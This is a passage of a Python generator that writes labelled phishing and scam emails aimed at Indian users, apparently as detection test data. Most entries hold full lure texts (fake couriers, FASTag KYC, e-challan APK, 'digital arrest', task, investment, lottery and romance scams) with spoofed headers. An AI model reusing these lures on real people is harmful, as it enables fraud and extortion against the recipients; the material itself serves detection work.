        f"Subject: India Post: Delivery attempt failed - Update your address (EE{digits(tag, 9)}IN)",
        f"From: {addr('India Post', sender)}",
        f"To: {rcpt}",
        "X-Priority: 3",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 26)}@track-indiapost.top>",
        "MIME-Version: 1.0",
    ])
    body = alt(phpmailer_boundary(tag), strip_tags(html) + f"\n{link}\n", html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"bounce-{digits(tag + 'bn', 5)}@track-indiapost.top",
                    ip="193.233.203.87", rdns="193-233-203-87.static.hostsailor.com", helo="track-indiapost.top",
                    spf="pass", dmarc="absent", dkim=[("pass", "track-indiapost.top", "x")], head=head, body=body)


@entry("b41-phish-bluedart-customs", "phishing",
       "Blue Dart 'international shipment held at customs, pay Rs 1,450 duty' lure to an IT employee, linking to a payment "
       "kit planted on a compromised Indian dental clinic's WordPress site.")
def bluedart_customs() -> bytes:
    tag = "bd1"
    date = "Tue, 16 Sep 2025 13:27:55 +0530"
    rcpt = NEHA[1]
    sender = "noreply@bluedart-shipments.com"
    awb = "7" + digits(tag, 10)
    link = f"https://www.sharmadentalclinic.in/wp-content/uploads/2025/09/bd/track.php?awb={awb}"
    html = html_page(f"""<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial;border:1px solid #ddd">
<tr><td style="background:#4b2e83;padding:12px 16px"><span style="color:#fff;font-size:22px;font-weight:bold">BLUE DART</span>
<span style="color:#ffd200;font-size:11px"> a DHL company</span></td></tr>
<tr><td style="padding:20px 16px;font-size:14px;line-height:22px">Dear Customer,<br><br>
Your international shipment <b>AWB {awb}</b> from <b>Singapore</b> is on hold at <b>Mumbai Air Cargo Complex</b> pending payment
of customs duty and clearance charges.<br><br>
Amount payable: <b>INR 1,450.00</b><br><br>
Please pay the charges within 48 hours to avoid the shipment being returned to origin.<br><br>
<a href="{link}" style="background:#ffd200;color:#000;padding:10px 22px;text-decoration:none;font-weight:bold">Pay Customs Duty</a><br><br>
Thank you for choosing Blue Dart.</td></tr></table>""", "Blue Dart")
    head = "\n".join([
        f"From: {addr('Blue Dart Express', sender)}",
        f"To: {addr(NEHA[0], rcpt)}",
        f"Subject: Shipment AWB {awb} on hold - Customs duty payment pending",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 30)}@bluedart-shipments.com>",
        "MIME-Version: 1.0",
    ])
    body = alt(f"--=_{hx(tag + 'b', 24)}", strip_tags(html) + f"\n{link}\n", html, "quoted-printable")
    return assemble(provider="m365", rcpt=rcpt, mailfrom=sender, ip="185.225.74.22", rdns="mail.bluedart-shipments.com",
                    helo="mail.bluedart-shipments.com", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "bluedart-shipments.com", "default")], head=head, body=body,
                    hops=[postfix_sub_hop("mail.bluedart-shipments.com", tag, rcpt)])


@entry("b41-phish-delhivery-qr-pdf", "phishing",
       "Delhivery 'delivery failed, reschedule by scanning the QR code' mail with a PDF whose only call to action is a "
       "QR code to a look-alike rescheduling site (quishing in an attachment), from a look-alike sender domain.")
def delhivery_qr() -> bytes:
    tag = "dlv1"
    date = "Fri, 10 Oct 2025 09:44:21 +0530"
    rcpt = "deepak.enterprises.nsk@outlook.com"
    sender = "support@delhivery-reschedule.com"
    awb = "1493" + digits(tag, 9)
    url = f"https://delhivery-reschedule.com/r/{an(tag, 8)}"
    pdf = qr_pdf(["DELHIVERY", "", "Delivery Exception Notice", f"AWB: {awb}",
                  "Status: Delivery attempt failed - consignee not available", "",
                  "Scan the QR code with your phone camera to reschedule delivery", "and pay the re-attempt charge of Rs. 49.",
                  "Shipment will be returned to origin in 48 hours."], url, f"Delhivery_{awb}")
    html = html_page(f"""<div style="font-family:Arial;font-size:14px">Dear Customer,<br><br>
We attempted to deliver your shipment AWB <b>{awb}</b> today but the consignee was not available.<br>
Please see the attached delivery exception notice and scan the QR code to reschedule delivery.<br><br>
Regards,<br>Delhivery Customer Support</div>""")
    head = "\n".join([
        f"From: {addr('Delhivery', sender)}",
        f"To: {rcpt}",
        f"Subject: Delivery failed for AWB {awb} - Reschedule now",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 16)}@delhivery-reschedule.com>",
        "MIME-Version: 1.0",
    ])
    body = mixed(f"----=_Part_{digits(tag + 'b', 6)}", [
        alt(f"----=_Part_{digits(tag + 'c', 6)}", strip_tags(html), html, "quoted-printable"),
        attachment("application/pdf", f"Delhivery_Exception_{awb}.pdf", pdf),
    ])
    return assemble(provider="outlook", rcpt=rcpt, mailfrom=sender, ip="104.234.10.141", rdns="mail.delhivery-reschedule.com",
                    helo="mail.delhivery-reschedule.com", spf="pass", dmarc="none", dkim=[], head=head, body=body)


@entry("b41-phish-fastag-kyc-hindi", "phishing",
       "Hindi NHAI FASTag 'KYC incomplete, FASTag will be blacklisted' lure from a logistics company's compromised "
       "mailbox, linking to a look-alike FASTag KYC page that collects vehicle, bank login and OTP.")
def fastag() -> bytes:
    tag = "ftg1"
    date = "Wed, 28 Feb 2024 11:36:50 +0530"
    rcpt = AMIT[1]
    sender = "dispatch@rajputanalogistics.co.in"
    link = f"https://fastag-kyc-update.in/ihmcl/kyc?v=UP32{upper(tag, 6)}"
    html = html_page(f"""<div style="font-family:Arial,'Noto Sans Devanagari';font-size:15px;line-height:1.7;max-width:620px">
<p><b>राष्ट्रीय राजमार्ग प्राधिकरण (NHAI) | FASTag</b></p>
<p>प्रिय FASTag उपयोगकर्ता,</p>
<p>NHAI के "वन व्हीकल वन फास्टैग" नियम के अनुसार जिन FASTag का KYC पूरा नहीं है, वे <b>29 फरवरी 2024</b> के बाद
<b>ब्लैकलिस्ट / निष्क्रिय</b> कर दिए जाएंगे और टोल प्लाज़ा पर दोगुना शुल्क लगेगा।</p>
<p>अपने वाहन का FASTag KYC अभी अपडेट करें:</p>
<p><a href="{link}">FASTag KYC अपडेट करें</a></p>
<p>Indian Highways Management Company Ltd (IHMCL)</p></div>""", "FASTag", "hi")
    head = "\n".join([
        f"From: {addr('FASTag NHAI', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('FASTag KYC अपूर्ण – 29 फरवरी के बाद FASTag निष्क्रिय हो जाएगा')}",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 32)}@rajputanalogistics.co.in>",
        "X-Mailer: PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ])
    body = alt(phpmailer_boundary(tag), strip_tags(html) + f"\n{link}\n", html, "base64")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="103.21.58.29", rdns="bh-in-12.webhostbox.net",
                    helo="bh-in-12.webhostbox.net", spf="pass", dmarc="absent",
                    dkim=[("pass", "rajputanalogistics.co.in", "default")], head=head, body=body,
                    hops=[exim_hop("rajputanalogistics.co.in", "154.47.24.172", "bh-in-12.webhostbox.net", sender, rcpt, tag)])


@entry("b41-phish-echallan-apk-link", "phishing",
       "Parivahan 'traffic e-challan issued to your vehicle, view challan in the RTO app' mail linking to an APK on the "
       "Discord CDN (Android malware delivered by link), sent from a free Gmail account.")
def echallan_apk() -> bytes:
    tag = "ech1"
    date = "Thu, 21 Nov 2024 20:48:17 +0530"
    rcpt = PRIYA[1]
    sender = "parivahan.echallan.rto@gmail.com"
    link = (f"https://cdn.discordapp.com/attachments/1{digits(tag, 18)}/1{digits(tag + 'b', 18)}/RTO_Traffic_Challan.apk"
            f"?ex={hx(tag + 'ex', 8)}&is={hx(tag + 'is', 8)}&hm={hx(tag + 'hm', 64)}&")
    plain = (f"Dear Vehicle Owner,\n\nA traffic violation e-challan No. TN{digits(tag + 'c', 20)} of Rs. 1,000/- has been issued "
             f"against your vehicle TN 37 {upper(tag + 'v', 2)} {digits(tag + 'v', 4)} for over speeding.\n\n"
             f"To view the challan photo and pay online, download the RTO Traffic Challan app:\n{link}\n\n"
             "Pay within 3 days to avoid court proceedings.\n\nParivahan Sewa\nMinistry of Road Transport & Highways\n")
    html = gmail_html([l if "discordapp" not in l else f'<a href="{link}">RTO Traffic Challan.apk</a>' for l in plain.split("\n")])
    head = gmail_head(addr("Parivahan e-Challan", sender), rcpt, "Traffic Violation e-Challan Issued - Pay within 3 days", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-echallan-pay-hindi", "phishing",
       "Hindi e-challan 'pending challan, pay now or licence suspended and court case' lure from a look-alike Parivahan "
       "domain, linking to a fake payment page on a cheap .cc domain.")
def echallan_pay() -> bytes:
    tag = "ech2"
    date = "Sun, 08 Jun 2025 12:14:03 +0530"
    rcpt = RAJESH[1]
    sender = "echallan@parivahan-services.in"
    link = f"https://echallan.parivahan-pay.cc/index/accused-challan?challan=DL{digits(tag, 19)}"
    html = html_page(f"""<table width="600" style="font-family:Arial,'Noto Sans Devanagari';border:1px solid #ccc" cellpadding="16" cellspacing="0">
<tr><td style="background:#f47b20;color:#fff"><b>परिवहन सेवा | e-Challan</b> - सड़क परिवहन और राजमार्ग मंत्रालय</td></tr>
<tr><td style="font-size:15px;line-height:1.7">प्रिय वाहन स्वामी,<br><br>
आपके वाहन <b>DL 8C {upper(tag, 2)} {digits(tag + 'v', 4)}</b> पर चालान संख्या DL{digits(tag, 19)} (&#8377;500) लंबित है।<br>
उल्लंघन: रेड लाइट जंपिंग, स्थान: रिंग रोड, आज़ादपुर<br><br>
कृपया 24 घंटे के भीतर भुगतान करें, अन्यथा आपका ड्राइविंग लाइसेंस निलंबित कर दिया जाएगा और मामला वर्चुअल कोर्ट को भेज दिया जाएगा।<br><br>
<a href="{link}" style="background:#1a5ea8;color:#fff;padding:10px 24px;text-decoration:none">अभी भुगतान करें</a></td></tr></table>""", "e-Challan", "hi")
    head = "\n".join([
        f"From: {addr('e-Challan Parivahan', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('लंबित ई-चालान: 24 घंटे में भुगतान करें - DL' + digits(tag, 19))}",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 24)}@parivahan-services.in>",
        "MIME-Version: 1.0",
    ])
    body = alt(f"=-{b64(tag + 'b', 20).replace('/', '').replace('+', '')}", strip_tags(html) + f"\n{link}\n", html, "base64")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="88.218.62.101", rdns="mail.parivahan-services.in",
                    helo="mail.parivahan-services.in", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "parivahan-services.in", "mail")], head=head, body=body)


@entry("b41-phish-digital-arrest-cbi", "phishing",
       "'Digital arrest' extortion: a CBI/Mumbai Cyber Police 'arrest warrant in a money-laundering case' PDF from a free "
       "Gmail account, ordering the victim to join a Skype video statement and not tell anyone, with an officer's number.")
def digital_arrest() -> bytes:
    tag = "cbi1"
    date = "Tue, 05 Nov 2024 11:58:36 +0530"
    rcpt = MEENAKSHI[1]
    sender = "cbi.cybercrime.mumbai.hq@gmail.com"
    case = f"CBI/MUM/ML/{digits(tag, 4)}/2024"
    phone = "+91 " + "9" + digits(tag + "p", 4) + " " + digits(tag + "p2", 5)
    pdf = files.pdf([
        "CENTRAL BUREAU OF INVESTIGATION", "Government of India - Economic Offences Wing, Mumbai", "",
        f"ARREST WARRANT   Case No. {case}", "",
        "Name: MEENAKSHI IYER", "Under Sections 420, 467, 471 IPC and Section 3 of PMLA 2002", "",
        "Your Aadhaar card has been used to open bank account in Canara Bank, Andheri branch", "which received Rs. 2.6 crore from a money laundering syndicate.", "",
        "You are placed under DIGITAL ARREST. You must stay on video call with the", "investigating officer and must not disclose this matter to anyone,",
        "including family members, under the Official Secrets Act 1923.", "",
        "Join the Skype video statement: live:.cid.cbi_mumbai_eow", f"Investigating Officer: Insp. Vikas Rathore  Ph: {phone}", "",
        "Failure to comply will result in physical arrest within 2 hours.", "Seal: Director, CBI   Seal: Supreme Court of India",
    ], title=f"Arrest Warrant {case}")
    plain = (f"Dear Meenakshi Iyer,\n\nThis is to inform you that an arrest warrant has been issued against you in case no. {case} "
             "related to money laundering and illegal use of your Aadhaar card. The warrant is attached.\n\n"
             "You are required to join the video statement on Skype (ID: live:.cid.cbi_mumbai_eow) within 2 hours and "
             f"call the investigating officer Insp. Vikas Rathore on {phone}. This is a confidential national security "
             "matter. Do not discuss it with any family member or lawyer, otherwise you will be charged under the Official "
             "Secrets Act.\n\nYou may need to transfer your funds to an RBI verification account for investigation; the "
             "amount will be refunded after verification.\n\nCentral Bureau of Investigation\nEconomic Offences Wing, Mumbai\n")
    html = gmail_html(plain.split("\n"))
    head = gmail_head(addr("CBI Mumbai - Economic Offences Wing", sender), rcpt,
                      f"ARREST WARRANT - Case No. {case} - Immediate Response Required", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    bnd = gmail_boundary(tag)
    body = mixed(bnd, [alt(gmail_boundary(tag + "a"), plain, html, upper_cs=True),
                       attachment("application/pdf", f"Arrest_Warrant_{case.replace('/', '_')}.pdf", pdf)])
    body.parts[1].extra.append(f"X-Attachment-Id: f_{an(tag + 'att', 9)}")
    body.parts[1].extra.insert(0, f"Content-ID: <f_{an(tag + 'att', 9)}>")
    return assemble(provider="outlook", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-customs-parcel-hinglish", "phishing",
       "Hinglish 'FedEx parcel in your name seized at Mumbai customs with MD drugs and fake passports, press 9 / call "
       "the Narcotics officer' digital-arrest precursor from a Gmail account, callback number only.")
def customs_parcel() -> bytes:
    tag = "fdx1"
    date = "Fri, 17 Jan 2025 15:32:10 +0530"
    rcpt = "rohit.agarwal.blr@gmail.com"
    sender = "fedex.customs.mumbai.cell@gmail.com"
    phone = "+91 " + "8" + digits(tag, 4) + " " + digits(tag + "p", 5)
    plain = ("Dear Customer,\n\n"
             f"Aapke naam aur Aadhaar se book kiya gaya ek FedEx international parcel (Tracking ID: {digits(tag + 't', 12)}) "
             "Mumbai se Taiwan ja raha tha, jise Mumbai Customs ne seize kar liya hai.\n\n"
             "Parcel mein 5 passport, 3 credit card, 4 kg kapde aur 140 gram MDMA drugs paaye gaye hain. Is case ko "
             "Narcotics Control Bureau aur Mumbai Cyber Crime ko transfer kiya ja raha hai.\n\n"
             f"Agar yeh parcel aapne nahi bheja hai to turant 2 ghante ke andar Narcotics officer se baat karein: {phone}\n"
             "Warna aapke naam par FIR darj ho jayegi aur police aapke ghar aa sakti hai.\n\n"
             "FedEx Customs Clearance Department\nMumbai\n")
    html = gmail_html(plain.split("\n"))
    head = gmail_head(addr("FedEx Customs Department", sender), rcpt,
                      "Aapka FedEx Parcel Customs Mein Seize Hua Hai - Illegal Items Found", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-task-youtube-likes", "phishing",
       "Hinglish part-time 'like YouTube videos and earn Rs 3,000-8,000 a day' task scam from a Gmail account posing as "
       "an HR executive, pushing the victim to a Telegram recruiter (later prepaid 'merchant tasks').")
def task_youtube() -> bytes:
    tag = "task1"
    date = "Mon, 19 May 2025 14:21:54 +0530"
    rcpt = "pooja.singh.jaipur@gmail.com"
    sender = "shreya.hr.digitalpromo@gmail.com"
    plain = ("Hello,\n\n"
             "Main Shreya, Digital Promotion Agency se HR hoon. Aapka profile humein Naukri se mila hai.\n\n"
             "Humare paas ek simple Part Time / Work From Home job hai - aapko sirf YouTube videos ko LIKE karna hai aur "
             "screenshot bhejna hai. Har like ke liye Rs.50 milenge.\n\n"
             "Daily income: Rs.3,000 se Rs.8,000\nTime: Sirf 30-60 minute rozana\nKoi registration fee nahi\n"
             "Payment: Turant aapke bank/UPI mein\n\n"
             "Interested hain to abhi Telegram par contact karein aur pehle 3 task free try karein, Rs.150 turant milenge:\n"
             "https://t.me/Shreya_HR_TaskDesk\n\n"
             "Regards,\nShreya Sharma\nHR Executive\n")
    html = gmail_html([l if "t.me" not in l else '<a href="https://t.me/Shreya_HR_TaskDesk">https://t.me/Shreya_HR_TaskDesk</a>'
                       for l in plain.split("\n")])
    head = gmail_head(addr("Shreya Sharma", sender), rcpt, "Part Time Job - Rs.3000 to 8000 Daily Income (Work From Home)", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-task-tamil-ratings", "phishing",
       "Tamil part-time job scam 'rate hotel/Amazon products online and earn Rs 2,000-5,000 daily' from a free Outlook.com "
       "mailbox, directing the victim to a WhatsApp recruiter number via wa.me.")
def task_tamil() -> bytes:
    tag = "task2"
    date = "Wed, 23 Jul 2025 10:09:33 +0000"
    rcpt = PRIYA[1]
    hops, ip, rdns, helo, msgid = outlook_sender(tag)
    wa = "9185" + digits(tag, 8)
    paras = ["வணக்கம்,", "",
             "வீட்டிலிருந்தே பகுதி நேர வேலை! Google Maps ஹோட்டல்கள் மற்றும் Amazon தயாரிப்புகளுக்கு ரேட்டிங் கொடுத்தால் போதும்.", "",
             "&#10004; தினசரி வருமானம் &#8377;2,000 - &#8377;5,000", "&#10004; மொபைல் மூலம் செய்யலாம், 1 மணி நேரம் போதும்",
             "&#10004; அனுபவம் தேவையில்லை, மாணவர்கள் / இல்லத்தரசிகள் விண்ணப்பிக்கலாம்", "",
             f'விவரங்களுக்கு WhatsApp இல் தொடர்பு கொள்ளவும்: <a href="https://wa.me/{wa}">+{wa[:2]} {wa[2:]}</a>', "",
             "நன்றி,", "திவ்யா - HR குழு"]
    html = outlook_html(paras, "Latha")
    plain = strip_tags("<br>".join(paras).replace("&#10004;", "*")) + f"\nhttps://wa.me/{wa}\n"
    sender = "divya.hr.parttimejobs@outlook.com"
    head = "\n".join([
        f"From: {addr('Divya HR', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('பகுதி நேர வேலை – தினமும் ₹5,000 வரை சம்பாதிக்கலாம்')}",
        outlook_extra(tag).replace("{TOPIC}", enc("பகுதி நேர வேலை")).replace("X-MS-Has-Attach: {ATT}", "X-MS-Has-Attach:"),
        f"Date: {date}",
        f"Message-ID: {msgid}",
        "Accept-Language: en-US",
        "Content-Language: ta-IN",
        "MIME-Version: 1.0",
    ])
    body = alt(outlook_boundary(tag, "SEZPR06MB", "apcp"), plain, html, "base64")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "outlook.com", "selector1")], head=head, body=body, hops=hops,
                    sign_h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")


@entry("b41-phish-stock-whatsapp-mailchimp", "phishing",
       "Stock-market investment-group scam sent through an abused Mailchimp account: 'SEBI-registered expert, 300% "
       "returns, free VIP WhatsApp group and IPO tips', with list-manage click tracking to a chat.whatsapp.com invite.")
def stock_group() -> bytes:
    tag = "stk1"
    date = "Thu, 13 Mar 2025 03:30:11 +0000"
    rcpt = "vivek.menon.kochi@gmail.com"
    sender = "research@alphawealthadvisory.co"
    u, lid = hx(tag + "u", 25), hx(tag + "id", 10)
    track = f"https://alphawealthadvisory.us21.list-manage.com/track/click?u={u}&id={lid}&e={hx(tag + 'e', 10)}"
    html = html_page(f"""<table width="600" align="center" style="font-family:Helvetica,Arial;font-size:15px;color:#202020" cellpadding="0" cellspacing="0">
<tr><td style="background:#0b3d2e;padding:18px;color:#fff;font-size:22px"><b>Alpha Wealth Advisory</b><br><span style="font-size:12px">SEBI Reg. No. INH000{digits(tag, 6)}</span></td></tr>
<tr><td style="padding:22px;line-height:24px">Dear Investor,<br><br>
Our members made <b>312% returns</b> in the last 6 months with our AI-based stock picks and guaranteed IPO allotment through
institutional quota.<br><br>
&#9989; Daily 3-5 intraday calls with 90% accuracy<br>&#9989; Block deals and pre-IPO shares at discounted price<br>
&#9989; Guidance by Prof. Rajiv Malhotra, ex-fund manager<br><br>
Join our <b>FREE VIP WhatsApp group</b> today. Only 50 seats left this month.<br><br>
<a href="{track}" style="background:#25d366;color:#fff;padding:12px 26px;text-decoration:none;border-radius:4px">Join WhatsApp Group</a></td></tr>
<tr><td style="padding:14px;font-size:11px;color:#656565">Investment in securities market are subject to market risks.<br>
You are receiving this email because you opted in via our website.<br>
<a href="https://alphawealthadvisory.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(tag + 'e', 10)}&c={hx(tag + 'c', 10)}">unsubscribe from this list</a>
&nbsp; <a href="https://alphawealthadvisory.us21.list-manage.com/profile?u={u}&id={lid}">update subscription preferences</a></td></tr></table>
<img src="https://alphawealthadvisory.us21.list-manage.com/track/open.php?u={u}&id={lid}&e={hx(tag + 'e', 10)}" height="1" width="1" alt="">""", "Alpha Wealth")
    rp = f"bounce-mc.us21_{digits(tag + 'rp', 8)}.{digits(tag + 'rp2', 7)}-{rcpt.replace('@', '=')}@mail{digits(tag + 'ml', 2)}.suw13.mcdlv.net"
    head = "\n".join([
        f"Subject: {enc('🚀 Free VIP WhatsApp Group: 312% Returns + Guaranteed IPO Allotment')}",
        f"From: {addr('Alpha Wealth Advisory', sender)}",
        f"Reply-To: {addr('Alpha Wealth Advisory', sender)}",
        f"To: <{rcpt}>",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'mid', 27)}.{hx(tag + 'mid2', 10)}@mail{digits(tag + 'ml', 2)}.suw13.mcdlv.net>",
        f"List-ID: {hx(tag + 'li', 25)}mc list <{hx(tag + 'li', 25)}.{digits(tag + 'li2', 6)}.list-id.mcsv.net>",
        f"X-Mailer: MailChimp Mailer - **CID{hx(tag + 'cid', 10)}{lid}**",
        f"X-Campaign: mailchimp{u}.{hx(tag + 'cid', 10)}",
        f"X-campaignid: mailchimp{u}.{hx(tag + 'cid', 10)}",
        "X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=" + u + "&id=" + hx(tag + 'cid', 10) + "&e=" + hx(tag + 'e', 10),
        "X-MC-User: " + u,
        f"Feedback-ID: {digits(tag + 'f1', 8)}:{digits(tag + 'f2', 8)}.{digits(tag + 'f3', 6)}:us21:mc",
        unsub(f"https://alphawealthadvisory.us21.list-manage.com/unsubscribe/post?u={u}&id={lid}&e={hx(tag + 'e', 10)}&c={hx(tag + 'c', 10)}",
              f"unsubscribe-mc.us21_{u}.{hx(tag + 'c', 10)}-{hx(tag + 'e', 10)}@mailin.mcsv.net"),
        "MIME-Version: 1.0",
    ])
    body = alt(f"_----------=_MCPart_{digits(tag + 'b', 10)}", strip_tags(html) + f"\nJoin WhatsApp Group: {track}\n", html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=rp, ip=f"198.2.{130 + int(digits(tag + 'ip', 1))}.{digits(tag + 'ip2', 2)}",
                    rdns=f"mail{digits(tag + 'ml', 2)}.suw13.mcdlv.net", helo=f"mail{digits(tag + 'ml', 2)}.suw13.mcdlv.net", spf="pass",
                    dmarc="pass", policy_="none", dkim=[("pass", "alphawealthadvisory.co", "k2"), ("pass", "mailchimpapp.net", "k2")],
                    head=head, body=body, hops=[f"Received: from localhost (localhost [127.0.0.1])\n\tby mail{digits(tag + 'ml', 2)}.suw13.mcdlv.net "
                                                f"(Mailchimp) with ESMTP id 4Z{upper(tag + 'mcq', 10)}\n\tfor <{rcpt}>; {{U}}"])


@entry("b41-phish-ipo-institutional-app", "phishing",
       "Investment scam follow-up: 'your institutional trading account is approved, download our app for IPO "
       "allotment and block trades' from a free Outlook.com mailbox posing as a foreign fund, linking to a fake trading app site.")
def ipo_app() -> bytes:
    tag = "ipo1"
    date = "Sat, 29 Mar 2025 06:48:27 +0000"
    rcpt = "vivek.menon.kochi@gmail.com"
    hops, ip, rdns, helo, msgid = outlook_sender(tag)
    link = "https://app.gsinstitutional-in.com/download?ref=VIP" + digits(tag, 5)
    paras = ["Dear Mr. Vivek Menon,", "",
             "Congratulations! As discussed in our VIP WhatsApp group (A-17 Stock Discussion Club), your <b>Institutional Account</b> "
             "with GS Institutional Services India has been approved.",
             "Institutional account holders get priority allotment in mainboard and SME IPOs and access to block trades at 20-30% discount.", "",
             f'Please download the official GS-IN Pro app and complete registration using invitation code <b>GSV{digits(tag, 5)}</b>: <a href="{link}">{link}</a>', "",
             "Minimum first deposit: Rs. 50,000 (to be transferred to the account shown in the app).",
             "Our customer service assistant Ms. Anjali will guide you on WhatsApp.", "",
             "Best regards,", "Prof. Rajiv Malhotra", "Chief Investment Strategist"]
    html = outlook_html(paras)
    plain = strip_tags("<br>".join(paras))
    sender = "rajiv.malhotra.gsindia@outlook.com"
    head = "\n".join([
        f"From: {addr('Prof. Rajiv Malhotra', sender)}",
        f"To: {addr('Vivek Menon', rcpt)}",
        "Subject: Institutional Account Approved - Download GS-IN Pro App for IPO Allotment",
        outlook_extra(tag).replace("{TOPIC}", "Institutional Account Approved").replace("X-MS-Has-Attach: {ATT}", "X-MS-Has-Attach:"),
        f"Date: {date}",
        f"Message-ID: {msgid}",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "MIME-Version: 1.0",
    ])
    body = alt(outlook_boundary(tag, "SEZPR06MB", "apcp"), plain, html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "outlook.com", "selector1")], head=head, body=body, hops=hops,
                    sign_h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")


@entry("b41-phish-kbc-lottery-hindi", "phishing",
       "Hindi KBC (Kaun Banega Crorepati) 'your number won Rs 25 lakh in the Jio lucky draw, pay processing fee and "
       "contact manager on WhatsApp' advance-fee lottery from a free Yahoo account, no link.")
def kbc_lottery() -> bytes:
    tag = "kbc1"
    date = "Sat, 24 Aug 2024 16:40:05 +0530"
    rcpt = "ramesh.chandra1958@rediffmail.com"
    sender = "kbc.lucky.draw.office@yahoo.com"
    wa = "+92 3" + digits(tag, 2) + " " + digits(tag + "p", 7)
    text_ = ("बधाई हो!!!\n\n"
             "कौन बनेगा करोड़पति (KBC) और Jio के संयुक्त लकी ड्रा 2024 में आपका ईमेल / मोबाइल नंबर चुना गया है। "
             "आपने 25,00,000 (पच्चीस लाख रुपये) की लॉटरी जीती है।\n\n"
             f"लॉटरी नंबर: KBC-{digits(tag + 'l', 4)}\n\n"
             "अपनी इनामी राशि प्राप्त करने के लिए तुरंत हमारे बैंक मैनेजर श्री राणा प्रताप सिंह से केवल WhatsApp पर संपर्क करें: "
             f"{wa}\n\n"
             "ध्यान दें: इनामी राशि आपके खाते में भेजने से पहले GST और प्रोसेसिंग शुल्क 12,500 रुपये जमा करना होगा। "
             "यह जानकारी किसी को न बताएं, अन्यथा आपका इनाम रद्द हो जाएगा।\n\n"
             "KBC हेड ऑफिस, मुंबई\n")
    html = ('<html><head></head><body><div class="ydp' + hx(tag + "yd", 8) + 'yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:16px;">'
            + "".join(f"<div dir=\"ltr\" data-setdir=\"false\">{l or '<br>'}</div>" for l in text_.split("\n")) + "</div></body></html>\n")
    bnd = f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}"
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('KBC Lottery Department', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 7)}.{digits(tag + 'm3', 13)}@mail.yahoo.com>",
        f"Subject: {enc('बधाई हो! आपने KBC लॉटरी में ₹25,00,000 जीते हैं')}",
        "MIME-Version: 1.0",
        "X-Mailer: WebService/1.1.22544 YMailNorrin",
    ])
    body = alt(bnd, text_, html, "base64", upper_cs=True)
    hops = [f"Received: from sonic.gate.mail.ne1.yahoo.com by sonic316.consmr.mail.sg3.yahoo.com with HTTP; {format_datetime(parsedate_to_datetime(date).astimezone(timezone.utc)).replace('-0000', '+0000')}"]
    return assemble(provider="rediff", rcpt=rcpt, mailfrom=sender, ip="106.10.242.146", rdns="sonic316-21.consmr.mail.sg3.yahoo.com",
                    helo="sonic316-21.consmr.mail.sg3.yahoo.com", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "yahoo.com", "s2048")], head=head, body=body, hops=hops)


@entry("b41-phish-matrimonial-nri", "phishing",
       "Matrimonial-site romance/advance-fee scam: a 'UK-based NRI doctor' met on a matrimony site says his gift parcel "
       "of gold and pounds is stuck at Delhi customs and asks the woman to pay Rs 48,500 clearance to an agent's account.")
def matrimonial() -> bytes:
    tag = "mat1"
    date = "Sun, 16 Feb 2025 22:13:48 +0530"
    rcpt = "kavya.nair.tvm@gmail.com"
    sender = "dr.rohan.mehta.uk@gmail.com"
    plain = ("My dearest Kavya,\n\n"
             "I hope you are smiling today. I could not sleep last night thinking about our future together after our "
             "families talk next month. As I promised, I sent a small surprise for you and your mother through courier "
